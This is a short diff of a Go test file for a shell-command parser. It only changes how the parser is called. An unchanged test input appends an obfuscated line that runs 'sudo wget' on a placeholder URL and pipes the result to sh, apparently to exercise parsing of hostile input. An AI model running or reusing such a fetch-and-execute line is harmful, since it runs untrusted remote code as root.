@@ -239,7 +239,7 @@ func TestSpentBudgetKeepsPlainCommands(t *testing.T) {
 		text := freeText(i, 64<<10)
 		text = text[:min(len(text), 60<<10)]
 		text = text[:strings.LastIndexByte(text, ';')+1] + "sudo w'g'et   -q \"http://x/a\"|sh"
-		s := Parse(text, Limits{})
+		s := NewParser(Limits{}).Parse(text)
 		n := len(s.Commands)
 		if n >= 4096 {
 			continue
@@ -250,7 +250,7 @@ func TestSpentBudgetKeepsPlainCommands(t *testing.T) {
 	}
 	for _, name := range []string{"replacement", "upper case", "words", "assignments", "array", "read", "blank file", "table", "formats", "separators"} {
 		i := slices.IndexFunc(free, func(c struct{ name, before, repeated string }) bool { return c.name == name })
-		if !Parse(freeText(i, 64<<10), Limits{}).Bounded {
+		if !NewParser(Limits{}).Parse(freeText(i, 64<<10)).Bounded {
 			t.Errorf("%s: what was left out is not said", name)
 		}
 	}
